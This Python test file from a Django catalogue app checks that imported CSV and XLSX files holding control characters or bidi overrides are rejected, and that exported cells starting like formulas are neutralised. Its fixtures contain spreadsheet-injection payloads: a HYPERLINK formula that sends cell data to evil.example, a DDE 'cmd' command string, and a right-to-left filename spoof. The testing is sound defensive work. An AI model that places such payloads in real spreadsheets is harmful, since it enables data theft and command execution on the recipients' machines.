"""Hostile catalogue files and hostile content on the way out (issue 16, hostile input).

As in test_catalogue_io.py, errors are asserted by row, column and code, never by wording.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from powers.catalogue_io import catalogue_export, catalogue_import
from powers.models import PowerItem
from tests.factories import PowerItemFactory
from tests.powers.test_catalogue_io import (
    CHINESE,
    CODE,
    item_row,
    rejected,
    where,
    write_csv,
    write_xlsx,
)

# --- control characters in cells ----------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("dry_run", [True, False])
@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("name", "食品\x00经营许可"),
        ("code", "XK-\x00-0001"),
        ("department_code", "YG-SJJ\x00"),
        ("legal_basis", "《食品安全法》\x1b[31m第三十五条"),
        ("steps", "受理|窗口人员|1\n审查\x08|审查人员|5"),
        ("conditions", "有场所\x7f"),
        ("name", "食品经营许可\u202egpj.exe"),
    ],
)
def test_a_control_character_in_a_cell_is_a_row_error_and_nothing_is_written(
    tmp_path, editor, department, field, text, dry_run
):
    rows = [item_row(), item_row("XK-YG-SJJ-0002") | {field: text}]

    errors = rejected(write_csv(tmp_path / "c.csv", rows), editor, dry_run=dry_run)

    assert where(errors) == {(3, CHINESE[field], "control_character")}
    assert not PowerItem.objects.exists()


@pytest.mark.django_db
def test_the_error_names_the_character_and_holds_no_control_character_itself(tmp_path, editor, department):
    path = write_csv(tmp_path / "c.csv", [item_row(name="食品\x00经营\u202e许可")])

    (error,) = rejected(path, editor)

    assert "U+0000" in error.message and "U+202E" in error.message
    assert "\x00" not in str(error) and "\u202e" not in str(error)


@pytest.mark.django_db
def test_a_control_character_in_an_unknown_column_is_ignored_like_the_column(tmp_path, editor, department):
    path = tmp_path / "c.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow([*CHINESE.values(), "备注"])
        writer.writerow([*item_row().values(), "草稿\x00"])

    summary = catalogue_import(source=path, user=editor)

    assert summary.created == 1


@pytest.mark.django_db
def test_an_xlsx_cell_with_a_bidi_control_is_refused_too(tmp_path, editor, department):
    # XML cannot hold NUL, but it holds U+202E (RIGHT-TO-LEFT OVERRIDE) and U+0085 well.
    path = write_xlsx(tmp_path / "c.xlsx", [item_row(name="食品经营许可\u202egpj.exe", conditions="有\x85场所")])

    errors = rejected(path, editor)

    assert where(errors) == {(2, CHINESE["name"], "control_character"), (2, CHINESE["conditions"], "control_character")}


@pytest.mark.django_db
def test_an_export_of_a_catalogue_holding_a_stored_control_character_does_not_fail(tmp_path, department):
    # Only SQLite stores NUL; PostgreSQL refuses it, so there is nothing to export there.
    item = PowerItemFactory(code=CODE, department=department, published=True)
    PowerItem.objects.filter(pk=item.pk).update(name="食品\x1b经营许可")

    catalogue_export(tmp_path / "c.xlsx", fmt="xlsx")

    assert load_workbook(tmp_path / "c.xlsx").active["B2"].value == "食品\ufffd经营许可"


# --- formulas in exports ------------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点此领取")',
    "conditions": "@SUM(1)",
    "rights": "+1+cmd|' /C calc'!A0",
    "complaint_channel": "-2+3",
}


@pytest.fixture
def formula_item(department):
    return PowerItemFactory(code=CODE, department=department, published=True, **FORMULAS)


def _exported(tmp_path, fmt: str) -> dict[str, object]:
    path = tmp_path / f"c.{fmt}"
    catalogue_export(path, fmt=fmt)
    if fmt == "csv":
        header, row = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        return dict(zip(header, row, strict=True))
    sheet = load_workbook(path).active
    header, row = sheet.iter_rows(max_row=2)
    return {title.value: cell for title, cell in zip(header, row, strict=True)}


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_catalogue_text_that_starts_like_a_formula_is_exported_inert(tmp_path, formula_item, fmt):
    cells = _exported(tmp_path, fmt)

    for field, text in FORMULAS.items():
        cell = cells[CHINESE[field]]
        if fmt == "xlsx":
            assert cell.data_type == "s"  # a string cell, never a formula
            cell = cell.value
        assert cell == "'" + text
    legal_days = cells[CHINESE["legal_days"]]
    assert (legal_days.value, legal_days.data_type) == (20, "n") if fmt == "xlsx" else legal_days == "20"


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_neutralised_export_imports_back_unchanged(tmp_path, superuser, formula_item, fmt):
    catalogue_export(tmp_path / f"c.{fmt}", fmt=fmt)

    summary = catalogue_import(source=tmp_path / f"c.{fmt}", user=superuser)

    assert (summary.unchanged, summary.new_versions) == (1, 0)
    assert PowerItem.objects.published().get(code=CODE).name == FORMULAS["name"]


@pytest.mark.django_db
def test_a_quote_typed_before_ordinary_text_is_kept_on_import(tmp_path, editor, department):
    path = write_csv(tmp_path / "c.csv", [item_row(conditions="'有场所", name="'=中文名")])

    catalogue_import(source=path, user=editor)

    item = PowerItem.objects.published().get(code=CODE)
    assert (item.conditions, item.name) == ("'有场所", "=中文名")
